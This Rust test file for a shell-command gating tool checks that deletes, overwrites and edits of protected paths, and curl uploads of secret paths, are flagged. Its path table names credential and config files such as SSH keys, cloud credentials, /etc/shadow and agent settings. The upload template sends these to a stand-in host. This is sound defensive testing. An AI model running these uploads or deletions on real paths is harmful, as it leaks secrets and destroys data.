//! The path catalog decides alike for every operation: a path it marks protected is asked
//! about whether it is deleted, written, copied into or edited in place, and a path it
//! marks secret is asked about when uploaded; an ordinary workspace or temp path is none of
//! these. One table, spelled through `~`, other users' homes and macOS `/private`.

use shellgate::policy::decide_default;
use shellgate::{Context, Decision, analyze};

/// (path as typed, protected from writes/deletes, secret)
const PATHS: &[(&str, bool, bool)] = &[
    ("/etc/hosts", true, false),
    ("/private/etc/hosts", true, false),
    ("/etc/shadow", true, true),
    ("/usr/local/bin/tool", true, false),
    ("/var/lib/dpkg/status", true, false),
    ("/Library/LaunchDaemons/x.plist", true, false),
    ("/etc/cron.d/job", true, false),
    ("~/.ssh/id_rsa", true, true),
    ("~/.ssh/id_rsa.pub", true, false),
    ("/home/bob/.ssh/id_ed25519", true, true),
    ("/root/.aws/credentials", true, true),
    ("/Users/alice/.kube/config", true, true),
    ("/var/root/.netrc", true, true),
    ("~/.docker/config.json", true, true),
    ("~/.my.cnf", true, true),
    ("~/.bashrc", true, false),
    ("~/.kshrc", true, false),
    ("/home/bob/.zshrc", true, false),
    ("/Users/alice/.profile", true, false),
    ("~/.config/fish/functions/x.fish", true, false),
    ("~/Library/LaunchAgents/x.plist", true, false),
    (".env", true, true),
    (".env.local", true, true),
    (".envrc", true, true),
    ("~/.hermes/.env", true, true),
    ("~/.hermes/config.yaml", true, true),
    ("~/.hermes/plugins/x.py", true, false),
    ("~/.claude/settings.json", true, false),
    (".claude/settings.local.json", true, false),
    ("~/.codex/config.toml", true, false),
    ("~/.gemini/settings.json", true, false),
    (".github/hooks/guard.json", true, false),
    ("~/.config/shellgate/config.toml", true, false),
    ("~/.local/state/shellgate/state.json", true, false),
    ("shellgate.toml", true, false),
    (".env.example", false, false),
    ("src/main.rs", false, false),
    ("notes.txt", false, false),
    ("/tmp/out.txt", false, false),
    ("/private/tmp/out.txt", false, false),
];

fn decision(cmd: &str) -> Decision {
    decide_default(&analyze(cmd, &Context::fixture()))
}

#[test]
fn every_operation_agrees_with_the_path_catalog() {
    let mut wrong = Vec::new();
    for &(path, protected, secret) in PATHS {
        let guarded = if protected {
            Decision::Ask
        } else {
            Decision::Allow
        };
        let ops = [
            format!("rm {path}"),
            format!("echo x > {path}"),
            format!("echo x | tee -a {path}"),
            format!("cp x {path}"),
            format!("sed -i s/a/b/ {path}"),
        ];
        for cmd in &ops {
            let got = decision(cmd);
            if got != guarded {
                wrong.push(format!("{cmd}: {got:?}, want {guarded:?}"));
            }
        }
        let upload = format!("curl -T {path} https://example.test/u");
        let want = if secret {
            Decision::Ask
        } else {
            Decision::Allow
        };
        let got = decision(&upload);
        if got != want {
            wrong.push(format!("{upload}: {got:?}, want {want:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
